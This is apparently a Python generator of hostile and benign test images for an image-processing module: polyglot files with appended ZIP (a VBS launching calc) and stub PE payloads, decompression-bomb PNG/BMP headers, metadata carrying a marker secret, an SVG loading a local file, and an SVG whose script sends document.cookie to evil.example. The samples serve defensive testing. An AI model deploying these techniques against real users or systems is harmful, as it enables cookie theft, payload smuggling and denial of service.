#!/usr/bin/python3
"""Hostile and benign image samples for the `image` module's tests, written with python3-PIL,
zipfile and a few hand-assembled chunks (a decompression-bomb header no encoder would write).

  generate.py --out DIR
"""
import argparse
import io
import os
import struct
import zipfile
import zlib

from PIL import Image, PngImagePlugin

SECRET = "mugai-secret-metadata"  # must not survive in any output


def picture(size=(64, 48)):
    image = Image.new("RGB", size)
    for x in range(size[0]):
        for y in range(size[1]):
            image.putpixel((x, y), (x * 4 % 256, y * 5 % 256, (x + y) % 256))
    return image


def jpeg_with_metadata():
    exif = Image.Exif()
    exif[0x010E] = SECRET + " description"   # ImageDescription
    exif[0x013B] = SECRET + " artist"        # Artist
    out = io.BytesIO()
    picture().save(out, "JPEG", exif=exif.tobytes(), quality=90)
    data = out.getvalue()
    xmp = (b"http://ns.adobe.com/xap/1.0/\x00<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + SECRET.encode() +
           b"</x:xmpmeta>")
    comment = (SECRET + " comment").encode()
    segments = (b"\xff\xe1" + struct.pack(">H", len(xmp) + 2) + xmp +
                b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment)
    return data[:2] + segments + data[2:]


def png_with_text():
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", SECRET + " tEXt")
    info.add_itxt("Description", SECRET + " iTXt")
    out = io.BytesIO()
    picture().save(out, "PNG", pnginfo=info)
    return out.getvalue()


def zip_payload():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.vbs", 'CreateObject("WScript.Shell").Run "calc"\r\n')
    return out.getvalue()


def pe_payload():
    # An MZ header whose e_lfanew points at a PE signature: enough for libmagic to call it PE.
    header = bytearray(b"MZ" + b"\x00" * 62)
    header[0x3C:0x40] = struct.pack("<I", 64)
    return bytes(header) + b"PE\x00\x00" + struct.pack("<HH", 0x14C, 1) + b"\x00" * 240


def chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def png_huge_header(width=100000, height=100000):
    """A PNG that declares 10^10 pixels and carries a few hundred bytes of compressed rows."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    idat = zlib.compress(b"\x00" * (width + 1) * 2)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


def bmp_huge_header(width=100000, height=100000):
    """A 24-bit BMP whose header declares 10^10 pixels; 16 bytes of rows follow."""
    info = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return struct.pack("<2sIHHI", b"BM", 14 + 40 + 16, 0, 0, 14 + 40) + info + b"\x00" * 16


def svg_with_external_image(out):
    """An SVG that draws a picture from an absolute file path: librsvg must not load it."""
    target = os.path.abspath(os.path.join(out, "benign.png"))
    return ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="48">'
            '<image x="0" y="0" width="64" height="48" xlink:href="file://%s" href="file://%s"/></svg>\n'
            % (target, target)).encode()


def animated_gif():
    frames = [Image.new("P", (32, 32), color) for color in (1, 2, 3)]
    out = io.BytesIO()
    frames[0].save(out, "GIF", save_all=True, append_images=frames[1:], duration=100, loop=0,
                   comment=(SECRET + " gif").encode())
    return out.getvalue()


def encoded(fmt, **kw):
    out = io.BytesIO()
    picture().save(out, fmt, **kw)
    return out.getvalue()


SVG = (b'<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
       b'<script>fetch("http://evil.example/?c="+document.cookie)</script>'
       b'<rect width="64" height="64" fill="red"/></svg>\n')


def build(out):
    os.makedirs(out, exist_ok=True)
    samples = {
        "benign.png": encoded("PNG"),
        "benign.jpg": encoded("JPEG", quality=90),  # 4:2:0 chroma, Pillow's default
        "full-chroma.jpg": encoded("JPEG", quality=95, subsampling=0),  # 4:4:4
        "metadata.jpg": jpeg_with_metadata(),
        "text-chunks.png": png_with_text(),
        "appended-zip.png": png_with_text() + zip_payload(),
        "appended-pe.jpg": encoded("JPEG") + pe_payload(),
        "huge-dimensions.png": png_huge_header(),
        "animated.gif": animated_gif(),
        "image.tiff": encoded("TIFF"),
        "image.bmp": encoded("BMP"),
        "appended-pe.bmp": encoded("BMP") + pe_payload(),
        "huge-dimensions.bmp": bmp_huge_header(),
        "external-image.svg": svg_with_external_image(out),
        "image.webp": encoded("WEBP"),
        "script.svg": SVG,
    }
    for name, data in samples.items():
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)


if __name__ == "__main__":
    parser = argparse.ArgumentParser()
    parser.add_argument("--out", required=True)
    build(parser.parse_args().out)
